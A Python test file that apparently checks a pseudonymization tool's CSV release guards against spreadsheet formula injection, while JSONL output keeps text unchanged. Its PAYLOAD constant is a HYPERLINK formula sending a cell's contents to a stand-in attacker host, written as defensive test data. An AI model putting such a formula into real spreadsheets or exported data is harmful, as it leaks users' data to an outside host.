"""A release's CSV hands the receiving researchers' spreadsheet no formula to run."""

from __future__ import annotations

import csv
import json
from typing import Any

import pytest

from annotator.models import Document, DocumentStatus, JobStatus
from annotator.services.releases.build import release_build
from annotator.services.releases.create import release_create
from annotator.services.releases.files import release_data_path
from annotator.services.spans import span_create
from pseudonymizer.formats.writers import FORMULA_STARTS, TEXT_MARK
from tests.factories import DocumentFactory, ProjectFactory

PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&A1,"Zed")'
TEXT = "Ottoline Featherstonehaugh wrote to us again."
NAME = "Ottoline Featherstonehaugh"


@pytest.fixture(autouse=True)
def _no_ner_model(settings: Any) -> None:
    """The release's detection check runs here without the NER queue (no worker consumes it
    in these tests): what is checked is how the CSV writes the cells."""
    settings.CLOAK_NER_MODELS = {"en": "", "fr": "", "ar": ""}


def test_a_typed_formula_pseudonym_is_released_as_text_with_its_offsets_right(db: Any) -> None:
    project = ProjectFactory(slug="radical", languages=["en"])
    document = DocumentFactory(project=project, language="en", text=TEXT, external_id="@id-1")
    span_create(
        document=document, actor=None, start=0, end=len(NAME), label="PER",
        decision="pseudonymize", replacement=PAYLOAD,
    )  # fmt: skip
    Document.objects.filter(pk=document.pk).update(status=DocumentStatus.DONE)

    release = release_create(project=project, strategy="realistic", format="csv", dispatch=False)
    release = release_build(release.pk)

    assert release.status == JobStatus.DONE, release.error
    with release_data_path(release).open(encoding="utf-8", newline="") as stream:
        (row,) = list(csv.DictReader(stream))
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())
    assert row["id"] == TEXT_MARK + "@id-1"
    released = PAYLOAD + TEXT[len(NAME) :]
    assert row["text"] == TEXT_MARK + released
    (span,) = json.loads(row["spans"])
    assert row["text"][span["start"] : span["end"]] == PAYLOAD
    assert NAME not in row["text"]


def test_the_same_release_in_jsonl_keeps_the_text_as_rendered(db: Any) -> None:
    project = ProjectFactory(slug="radical", languages=["en"])
    document = DocumentFactory(project=project, language="en", text=TEXT, external_id="@id-1")
    span_create(
        document=document, actor=None, start=0, end=len(NAME), label="PER",
        decision="pseudonymize", replacement=PAYLOAD,
    )  # fmt: skip
    Document.objects.filter(pk=document.pk).update(status=DocumentStatus.DONE)

    release = release_create(project=project, strategy="realistic", format="jsonl", dispatch=False)
    release = release_build(release.pk)

    assert release.status == JobStatus.DONE, release.error
    record = json.loads(release_data_path(release).read_text(encoding="utf-8"))
    assert record["id"] == "@id-1"
    assert record["text"] == PAYLOAD + TEXT[len(NAME) :]
    assert record["spans"][0]["start"] == 0
